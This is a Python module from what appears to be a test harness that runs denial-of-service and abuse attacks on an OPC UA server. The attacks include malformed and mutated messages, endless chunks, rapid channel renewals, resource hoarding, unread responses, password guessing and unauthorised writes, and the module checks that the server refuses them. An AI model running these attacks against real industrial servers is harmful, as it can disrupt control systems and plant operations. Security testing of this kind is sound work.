"""Attacks on the OPC UA server."""

from __future__ import annotations

import asyncio
import struct
from random import Random

from asyncua import Client, ua

from drivers.abuse import evil
from drivers.abuse.corpus import harmless, public
from drivers.abuse.mutate import mutated, spoilt_chunk, spoilt_request
from drivers.abuse.plant import SECRET, USER
from drivers.abuse.raw import Raw, framed, hello, long_answer
from drivers.abuse.target import Attack, Target, over_and_over
from drivers.abuse.wrong import REFUSED, secured_foe, wrong_passwords

_BURST = 200


async def _entered(target: Target, session: bool = True) -> Raw:
    raw = await target.raw()
    if not await raw.enter(session):
        raw.close()
        raise ConnectionError("not let in")
    return raw


async def made_to_hurt(target: Target, random: Random) -> None:
    """Send requests that ask for far more than they are, before and after login."""

    async def one() -> None:
        logged_in = random.random() < 0.6
        raw = await _entered(target, logged_in)
        messages = list(
            evil.after_login(raw.authentication, target.seen)
            if logged_in
            else evil.before_login(raw.authentication)
        )
        for _ in range(10):
            _, body = random.choice(messages)
            target.count("OPC UA messages made to hurt")
            if await raw.ask(body) is None:
                break
        raw.close()

    await over_and_over(one, target, 0.01)


async def spoilt(target: Target, random: Random) -> None:
    """Send valid requests with something wrong, before and after login."""

    async def one() -> None:
        logged_in = random.random() < 0.7
        raw = await _entered(target, logged_in)
        valid = list((harmless(raw.authentication, target.seen) if logged_in else public()).values())
        for _ in range(_BURST):
            raw.sequence += 1
            head = struct.pack("<4I", raw.channel, raw.token, raw.sequence, raw.sequence)
            request = spoilt_request(random, random.choice(valid), valid)
            raw.send(spoilt_chunk(random, b"MSG", head, request))
            target.count("OPC UA messages spoilt")
            if random.random() < 0.2 and await raw.receive() is None:
                break
        raw.close()

    await over_and_over(one, target, 0.01)


async def spoilt_hellos(target: Target, random: Random) -> None:
    """Say hello and open channels wrongly, never end a message, and renew what is open."""

    async def one() -> None:
        raw = await target.raw()
        url = raw.url if random.random() < 0.8 else "x" * 60_000
        said = hello(url, *(random.choice((0, 1, 65_536, 2**31, 2**32 - 1)) for _ in range(5)))
        raw.send(said if random.random() < 0.5 else mutated(random, said))
        if random.random() < 0.5:
            raw.send(mutated(random, raw.opening()))
        elif await raw.receive() is not None and await raw.open():
            for _ in range(_BURST):
                chunk = random.choice((b"C", b"C", b"A"))
                raw.send(raw.message(bytes(random.choice((0, 1, 60_000))), chunk))
                target.count("OPC UA chunks without an end")
                await raw.writer.drain()
        raw.close()

    await over_and_over(one, target, 0.01)


async def renewals(target: Target, random: Random) -> None:
    """Open channels and renew them without a pause; open secured ones that cost the server its key."""

    async def plain() -> None:
        raw = await _entered(target, session=False)
        while not raw.writer.is_closing():
            target.count("OPC UA channels renewed")
            if not await raw.open(renew=random.random() < 0.5):
                break
        raw.close()

    async def secured() -> None:
        raw = await target.raw()
        await raw.hello()
        policy = b"http://opcfoundation.org/UA/SecurityPolicy#Basic256Sha256"
        head = struct.pack("<Ii", 0, len(policy)) + policy + struct.pack("<i", 900) + random.randbytes(900)
        target.count("OPC UA channels that nobody signed")
        raw.send(framed(b"OPN", head + struct.pack("<i", 20) + bytes(20) + random.randbytes(256)))
        await raw.receive()
        raw.close()

    async with asyncio.TaskGroup() as group:
        for _ in range(4):
            group.create_task(over_and_over(plain, target, 0.01))
            group.create_task(over_and_over(secured, target, 0.01))


async def hoard(target: Target, random: Random) -> None:
    """Take every session, subscription and item there is, and never ask for what they have to say."""

    async def one() -> None:
        raw = await _entered(target)
        for _ in range(60):
            made = await raw.ask(ua.CreateSubscriptionRequest())
            if not isinstance(made, ua.CreateSubscriptionResponse):
                break
            number = made.Parameters.SubscriptionId
            for request in evil.items(number, target.seen):
                await raw.ask(request)
            wanted = ua.CreateMonitoredItemsRequest()
            wanted.Parameters.SubscriptionId = number
            wanted.Parameters.ItemsToCreate = [
                ua.MonitoredItemCreateRequest(
                    ua.ReadValueId(node, ua.AttributeIds.Value),
                    ua.MonitoringMode.Reporting,
                    ua.MonitoringParameters(1, 0.0, None, 0xFFFF_FFFF, True),
                )
                for node in (ua.NodeId(target.seen, 2), ua.NodeId(2258))
                for _ in range(500)
            ]
            await raw.ask(wanted)
            target.count("OPC UA items hoarded", 1_000)
            for _ in range(20):
                raw.send(raw.messages(raw.asked(ua.PublishRequest())))
            await target.wait(random.uniform(0.0, 0.2))
        await asyncio.Event().wait()

    async with asyncio.TaskGroup() as group:
        for _ in range(12):
            group.create_task(over_and_over(one, target, 0.2))


async def unread(target: Target, random: Random) -> None:
    """Ask for much and take nothing of it."""

    async def one() -> None:
        raw = await _entered(target, logged_in := random.random() < 0.6)
        raw.writer.transport.pause_reading()  # type: ignore[attr-defined]
        body = raw.asked(ua.GetEndpointsRequest())
        if logged_in:
            body = raw.asked(long_answer())
        for _ in range(3_000):
            raw.send(raw.messages(body))
            target.count("OPC UA answers that nobody took")
            await raw.writer.drain()
        await asyncio.Event().wait()

    async with asyncio.TaskGroup() as group:
        for _ in range(8):
            group.create_task(over_and_over(one, target, 0.2))


async def without_right(target: Target, random: Random) -> None:
    """Write, call and change the server as somebody without a name, in the clear and past its door.

    On secured channels the gate is what refuses, nobody and a user alike.
    """

    async def plain() -> None:
        raw = await _entered(target)
        for value in (1.0, float("nan"), "x", [1.0], None, True):
            write = ua.WriteRequest()
            kind = None if value is None else ua.Variant(value).VariantType
            data = ua.DataValue(ua.Variant(value, kind))
            write.Parameters.NodesToWrite = [
                ua.WriteValue(node, random.choice((13, 13, 1, 5, 17)), Value=data)
                for node in (ua.NodeId(target.kept, 2), ua.NodeId(2259), ua.NodeId(85))
            ]
            target.count("OPC UA writes without right", 3)
            await raw.ask(write)
        for body in harmless(raw.authentication, target.kept).values():
            await raw.ask(body)
        raw.close()

    async def secured(user: str = "", secret: str = "") -> None:
        async with secured_foe(target, user, secret) as client:
            try:
                await client.connect()
                for _ in range(_BURST):
                    await _refused_by_gate(client, target, random, user or "anonymous")
            except REFUSED as exc:
                raise ConnectionError(str(exc)) from exc

    target.refused.update({"anonymous": 0, USER: 0})
    async with asyncio.TaskGroup() as group:
        group.create_task(over_and_over(plain, target, 0.05))
        group.create_task(over_and_over(secured, target, 0.05))
        group.create_task(over_and_over(lambda: secured(USER, SECRET), target, 0.05))


async def _refused_by_gate(client: Client, target: Target, random: Random, user: str) -> None:
    """Write values that the tag takes, and some that it does not.

    Raises:
        RuntimeError: the answer is not that the user has no right.
    """
    values = [random.choice((0.0, 1.0, 99.0, 1e9, float("nan"))) for _ in range(3)]
    write = ua.WriteParameters()
    write.NodesToWrite = [
        ua.WriteValue(
            ua.NodeId(target.kept, 2), 13, Value=ua.DataValue(ua.Variant(each, ua.VariantType.Float))
        )
        for each in values
    ]
    target.count("OPC UA writes without right, secured", len(values))
    for value, status in zip(values, await client.uaclient.write(write), strict=True):
        if status.value != ua.StatusCodes.BadUserAccessDenied:
            raise RuntimeError(f"{value} of {user} was answered by {status.name}")
        target.refused[user] += 1


ATTACKS: dict[str, Attack] = {
    "OPC UA: made to hurt": made_to_hurt,
    "OPC UA: spoilt requests": spoilt,
    "OPC UA: spoilt hellos and endless chunks": spoilt_hellos,
    "OPC UA: renewals": renewals,
    "OPC UA: hoarding": hoard,
    "OPC UA: answers not taken": unread,
    "OPC UA: wrong passwords": wrong_passwords,
    "OPC UA: writes without right": without_right,
}
